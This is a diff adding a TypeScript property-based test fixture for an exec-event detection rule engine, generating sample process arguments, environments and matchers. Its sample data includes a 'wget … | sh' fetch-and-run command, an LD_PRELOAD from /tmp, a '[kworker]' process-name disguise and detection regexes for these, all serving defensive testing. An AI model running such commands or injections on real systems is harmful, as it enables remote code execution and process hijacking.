@@ -1,0 +1,104 @@
+import { type CheckedRule, type Condition, compileCondition, definePlugin, type Matcher, type Readable, UNKNOWN } from '@cws/core'
+import { TestPipeline } from '@cws/core/testing'
+import fc from 'fast-check'
+import { anyCondition as plainCondition, anyValues as plainValues } from '../../../../core/test/fixtures/conditions.ts'
+
+/** Conditions and values of exec events, of arguments and environments too: small pools, so that conditions often hold. */
+const ARGS = ['', '-c wget http://x/a | sh', '--password=x', 'é--yes', 'curl a', '-lab', 'a\nb']
+const TEXTS: Readonly<Record<string, readonly unknown[]>> = {
+  'exec.args': [...ARGS, 'x'.repeat(300), UNKNOWN],
+  'exec.argv0': ['sh', '[kworker]', '', UNKNOWN],
+  'exec.envp': [[], ['LD_PRELOAD=/tmp/x'], ['PATH=/bin', 'A=b'], ['A=b', UNKNOWN], UNKNOWN],
+  'process.parent.file.name': ['sh', 'curl', '', UNKNOWN],
+}
+const pick = <T>(values: readonly T[]) => fc.constantFrom(...values)
+
+export const anyValues: fc.Arbitrary<ReadonlyMap<string, unknown>> = fc
+  .tuple(plainValues, fc.record(Object.fromEntries(Object.entries(TEXTS).map(([name, pool]) => [name, pick(pool)]))))
+  .map(([values, texts]) => new Map([...values, ...Object.entries(texts).filter(([, value]) => value !== UNKNOWN)]))
+
+const matcher: fc.Arbitrary<Matcher> = pick<Matcher>([
+  { kind: 'exact', text: 'curl a' },
+  { kind: 'exact', text: '' },
+  { kind: 'exact', text: 'sh' },
+  { kind: 'pattern', text: '*wget*|*sh' },
+  { kind: 'pattern', text: '*--password=*' },
+  { kind: 'pattern', text: '*é--*' },
+  { kind: 'pattern', text: '[*]' },
+  { kind: 'pattern', text: '*' },
+  { kind: 'regex', text: '(?:wget|curl) \\S*a' },
+  { kind: 'regex', text: '^LD_(?:PRELOAD|AUDIT)=(?:.*[: ])?/(?:tmp|dev/shm)/' },
+  { kind: 'regex', text: '-[lc]+a?b?' },
+  { kind: 'regex', text: 'x{3}|a$' },
+  { kind: 'regex', text: '(?i)WGET' },
+])
+const textual: fc.Arbitrary<Condition> = fc.record({
+  op: fc.constant('match' as const),
+  field: pick(Object.keys(TEXTS)),
+  any: fc.array(matcher, { maxLength: 3 }),
+})
+
+export const anyCondition: fc.Arbitrary<Condition> = fc.letrec<{ condition: Condition }>((tie) => ({
+  condition: fc.oneof(
+    { depthSize: 'small', withCrossShrink: true },
+    textual,
+    plainCondition,
+    fc.record({ op: pick(['and', 'or'] as const), of: fc.array(tie('condition'), { maxLength: 3 }) }),
+    fc.record({ op: fc.constant('not' as const), of: tie('condition') }),
+  ),
+})).condition
+
+/** What follows from the lineage of a process. */
+const SETTLED: ReadonlySet<string> = new Set([
+  ...['path', 'name', 'extension', 'memfd'].map((name) => `exec.file.${name}`),
+  ...['exec.interpreter.file.path', 'process.file.path', 'process.ancestors.file.name', 'process.parent.file.name', 'process.uid'],
+])
+
+/** Makes events as dispatch would see them: kept ones, and those that know the number of what recurs of them. */
+export class Events implements AsyncDisposable {
+  readonly #pipeline: TestPipeline
+  readonly #numbers = new Map<string, number>()
+  readonly definition
+  readonly #recurrence
+
+  private constructor(pipeline: TestPipeline) {
+    this.#pipeline = pipeline
+    this.definition = pipeline.runtime.engine.events.get('exec')
+    const numbers = this.#numbers
+    this.#recurrence = {
+      fields: SETTLED,
+      of(event: Readable) {
+        const key = [...SETTLED].map((field) => String([event.get(field)].flat(2).map(String))).join('\0')
+        const known = numbers.get(key)
+        if (known === undefined) numbers.set(key, numbers.size + 1)
+        return known ?? numbers.size
+      },
+    }
+  }
+
+  static async make(): Promise<Events> {
+    return new Events(await TestPipeline.of([definePlugin(import.meta, { name: 'none', setup() {} })()]))
+  }
+
+  of(values: Readonly<Record<string, unknown>> | ReadonlyMap<string, unknown>): Readable {
+    return this.#pipeline.runtime.engine.keptEvent(this.definition, new Map(values instanceof Map ? values : Object.entries(values)))
+  }
+
+  /** The same, of a feed that knows what recurs. */
+  recurring(values: Readonly<Record<string, unknown>> | ReadonlyMap<string, unknown>): Readable {
+    return Object.assign(this.of(values), { recurrence: this.#recurrence })
+  }
+
+  async [Symbol.asyncDispose](): Promise<void> {
+    await this.#pipeline.stop()
+  }
+}
+
+export const ruleOf = (condition: Condition, i: number) => ({ id: `rule-${i}`, on: 'exec', condition }) as CheckedRule
+
+/** Each rule judged by itself, whole. */
+export function oracle(rules: readonly CheckedRule[], event: Readable) {
+  const truths = rules.map((rule) => ({ rule, truth: compileCondition(rule.condition)(event) }))
+  const of = (wanted: unknown) => truths.filter(({ truth }) => truth === wanted).map(({ rule }) => rule.id)
+  return { fired: of(true), undecided: of(UNKNOWN) }
+}
